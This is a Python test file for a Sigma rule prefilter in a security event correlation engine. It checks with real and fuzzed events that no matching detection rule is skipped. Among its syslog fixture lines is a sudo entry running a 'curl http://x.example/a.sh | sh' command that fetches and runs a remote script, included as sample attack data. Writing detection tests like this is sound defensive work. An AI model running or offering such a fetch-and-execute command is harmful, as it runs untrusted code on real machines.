"""The prefilter never drops a rule that matches: for real events and for events built to
sit on the edge of the rules' own needles (case, position, lists), every rule whose full
predicate holds is among the prefilter's candidates. Also what needs are derived, and
that they narrow the candidates down (the point of having them)."""

from __future__ import annotations

import random
from functools import cache
from typing import Any

import orjson
import pytest
from django.utils import timezone
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sigma.rule import SigmaRule

from correlation.engine.ruleset import compile_variants, variant_needs
from correlation.services.importing import RULE_PACK
from correlation.sigma.documents import parse_documents
from correlation.sigma.prefilter import Atom, Prefilter, detections_need, positions
from correlation.sigma.values import EventView, Predicate
from events.files import chunks
from events.parsers import ParseContext, ParsedEvent, RawRecord, parser_for

from .sigmahq import SIGMA, regression_cases, rule_files_by_id

SYSLOG = [
    "<38>Dec  6 10:00:01 web01 sshd[1201]: Failed password for root from 203.0.113.9 port 22 ssh2",
    "<38>Dec  6 10:00:02 web01 sshd[1201]: Accepted password for deploy from 10.0.0.8 port 2 ssh2",
    "<38>Dec  6 10:00:03 web01 sshd[1202]: Invalid user oracle from 203.0.113.9 port 5124",
    "<86>Dec  6 10:00:04 web01 sudo: alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; "
    "COMMAND=/bin/bash -c 'curl http://x.example/a.sh | sh'",
    "<13>Dec  6 10:00:05 web01 kernel: iptables denied: IN=eth0 SRC=198.51.100.7 DST=10.0.0.2",
]


def sigma_rules(texts: list[str]) -> list[SigmaRule]:
    found = []
    for text in texts:
        for document in parse_documents(text):
            if isinstance(document.sigma, SigmaRule):
                found.append(document.sigma)
    return found


@cache
def rule_variants() -> tuple[list[Predicate], Prefilter, list[Any]]:
    """The rule pack, SigmaHQ's 202 regression rules and every 10th rule of its tree, as
    (predicate, need) per logsource variant, with one prefilter over all of them."""
    files = rule_files_by_id()
    chosen = {files[case.rule_id] for case in regression_cases()}
    chosen |= set(sorted((SIGMA / "rules").rglob("*.yml"))[::10])
    texts = [path.read_text() for path in sorted(chosen)]
    texts += [path.read_text() for path in sorted(RULE_PACK.glob("*.yml"))]
    predicates: list[Predicate] = []
    needs = []
    for sigma in sigma_rules(texts):
        predicates += [predicate for _, predicate in compile_variants(sigma)]
        needs += variant_needs(sigma)
    return predicates, Prefilter(needs), needs


@cache
def real_events() -> list[tuple[dict[str, Any], str]]:
    """SigmaHQ's regression events and a few syslog lines, normalized and stored as the
    engine reads them back (JSON)."""
    found: list[tuple[dict[str, Any], str]] = []
    context = ParseContext(received_at=timezone.now())
    windows = parser_for("windows")
    for case in regression_cases():
        for chunk in chunks(case.evtx.name, case.evtx.read_bytes(), "windows"):
            found += [
                (orjson.loads(orjson.dumps(r.fields, default=str)), r.raw)
                for r in windows(chunk.records, context)
                if isinstance(r, ParsedEvent)
            ]
    syslog = parser_for("syslog")
    records = [RawRecord(n, line) for n, line in enumerate(SYSLOG)]
    found += [
        (orjson.loads(orjson.dumps(r.fields, default=str)), r.raw)
        for r in syslog(records, context)
        if isinstance(r, ParsedEvent)
    ]
    return found


def missed(doc: dict[str, Any], raw: str) -> list[int]:
    """The rules (by position) that match the event but that the prefilter left out."""
    predicates, prefilter, _ = rule_variants()
    view = EventView(doc, raw)
    chosen = prefilter.select(view)
    return [n for n, predicate in enumerate(predicates) if predicate(view) and not chosen >> n & 1]


def test_real_events_lose_no_match_and_skip_most_rules() -> None:
    predicates, prefilter, _ = rule_variants()
    matched = selected = 0
    for doc, raw in real_events():
        view = EventView(doc, raw)
        chosen = prefilter.select(view)
        hits = [n for n, predicate in enumerate(predicates) if predicate(view)]
        assert all(chosen >> n & 1 for n in hits), (doc, [n for n in hits if not chosen >> n & 1])
        matched += len(hits)
        selected += len(positions(chosen))
    events = len(real_events())
    assert matched > events  # the attack samples do match (the check is not empty)
    assert selected < 0.2 * events * len(predicates)  # and most rules are skipped


def _needle_atoms() -> list[Atom]:
    _, _, needs = rule_variants()
    return sorted({atom for need in needs if need for atom in need}, key=repr)


def _recase(text: str, rng: random.Random) -> str:
    return "".join(c.upper() if rng.random() < 0.5 else c for c in text)


def _edge_value(atom: Atom, rng: random.Random) -> str:
    """A value on the edge of ``atom``: the needle alone, cut, padded, re-cased."""
    needle = _recase(atom.needle, rng)
    choice = rng.randrange(5)
    if choice == 0:
        return needle
    if choice == 1:
        return needle[1:] or needle  # one character short
    pad = rng.choice(["", "x", "\\", " ", "İ", "ς", "\0"])
    if choice == 2:
        return pad + needle
    if choice == 3:
        return needle + pad
    return pad + needle + pad


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(seed=st.integers(0, 2**32 - 1), changes=st.integers(1, 6))
def test_events_built_from_the_rules_needles_lose_no_match(seed: int, changes: int) -> None:
    rng = random.Random(seed)
    doc, raw = rng.choice(real_events())
    doc = dict(doc)
    atoms = _needle_atoms()
    for _ in range(changes):
        atom = rng.choice(atoms)
        value = _edge_value(atom, rng)
        if atom.field is None:  # a keyword: somewhere in the text
            if rng.random() < 0.5:
                raw += " " + value
            else:
                doc[rng.choice(["message", "Details", "CommandLine"])] = value
            continue
        if rng.random() < 0.25:  # a list-valued field: any of its values
            doc[atom.field] = [rng.choice(["", "other", 7]), value]
        else:
            doc[atom.field] = value
    assert missed(doc, raw) == []


def test_keywords_are_found_in_documents_json_cannot_hold() -> None:
    """The keyword search goes through the document's JSON, where a backslash, a quote or
    a control character stands escaped; a document orjson cannot write (an integer past
    64 bits, read back by the json module) is searched as text."""
    text = (
        "title: t\nlogsource: {product: linux}\ndetection:\n"
        "  k: ['MimiKatz', 'a\\b', 'say \"hi', \"tab\\there\"]\n"
    )
    sigma = sigma_rules([text + "  condition: k\n"])[0]
    prefilter = Prefilter(variant_needs(sigma))
    assert not prefilter.exact_only  # every keyword is ASCII: the JSON search serves
    for doc in ({"n": 2**70, "message": "x mimikatz y"}, {"message": "x Mimikatz y"}):
        assert prefilter.select(EventView(doc)) == 1
    for found in ("c:\\a\\b", 'they Say "Hi"', "a\ttab\there", "c:\\A\\B"):
        assert prefilter.select(EventView({"message": found})) == 1, found
        assert prefilter.select(EventView({}, raw=f"raw: {found}")) == 1, found
        assert prefilter.select(EventView({"n": 2**70, "m": [found]})) == 1, found
    assert prefilter.select(EventView({"message": "nothing here", "ab": "say hi"})) == 0


def need_of(detection: str) -> Any:
    text = f"title: t\nlogsource: {{product: windows}}\ndetection:\n{detection}"
    sigma = parse_documents(text)[0].sigma
    assert isinstance(sigma, SigmaRule)
    return detections_need(sigma.detection)


@pytest.mark.parametrize(
    ("detection", "need"),
    [
        # AND: the most selective part (a whole value beats a piece)
        (
            "  s:\n    Image|endswith: '\\cmd.exe'\n    User: bob\n  condition: s",
            {Atom("User", "eq", "bob")},
        ),
        # OR: every alternative's atom
        (
            "  s:\n    Image|endswith: ['\\a.exe', '\\b.exe']\n  condition: s",
            {Atom("Image", "endswith", "\\a.exe"), Atom("Image", "endswith", "\\b.exe")},
        ),
        # an inner wildcard: the longest literal end or piece
        (
            "  s:\n    Image: 'C:\\Temp*x\\evil.exe'\n  condition: s",
            {Atom("Image", "startswith", "c:\\temp")},
        ),
        ("  s:\n    - 'mimikatz'\n  condition: s", {Atom(None, "contains", "mimikatz")}),
        # nothing can be required of a negation, a regex, a number or a null
        ("  s:\n    Image: x\n  condition: not s", None),
        ("  s:\n    Image|re: 'a.*b'\n  condition: s", None),
        ("  s:\n    EventID: 4688\n  condition: s", None),
        ("  s:\n    Image: null\n  condition: s", None),
        # a negated part leaves the other part's need
        (
            "  s:\n    Image|contains: 'psexe'\n  f:\n    User: x\n  condition: s and not f",
            {Atom("Image", "contains", "psexe")},
        ),
        # a cased piece that is not ASCII: its lower case depends on its neighbours
        ("  s:\n    Image|cased|contains: 'ΑΣ'\n  condition: s", None),
        (
            "  s:\n    Image|cased|contains: 'AbC'\n  condition: s",
            {Atom("Image", "contains", "abc")},
        ),
    ],
)
def test_needs(detection: str, need: set[Atom] | None) -> None:
    found = need_of(detection)
    assert found == (frozenset(need) if need is not None else None)
